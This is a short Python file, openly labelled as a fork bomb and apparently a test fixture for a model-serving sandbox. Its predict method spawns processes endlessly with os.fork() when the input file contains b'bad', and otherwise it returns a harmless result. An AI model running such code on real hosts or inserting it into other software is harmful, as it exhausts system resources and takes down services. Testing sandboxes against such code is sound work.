"""A fork bomb."""

import os


class Model:
    def predict(self, inputs):
        while inputs["input.txt"] == b"bad":
            try:
                os.fork()
            except OSError:
                pass
        return {"results.json": {"fine": True}}
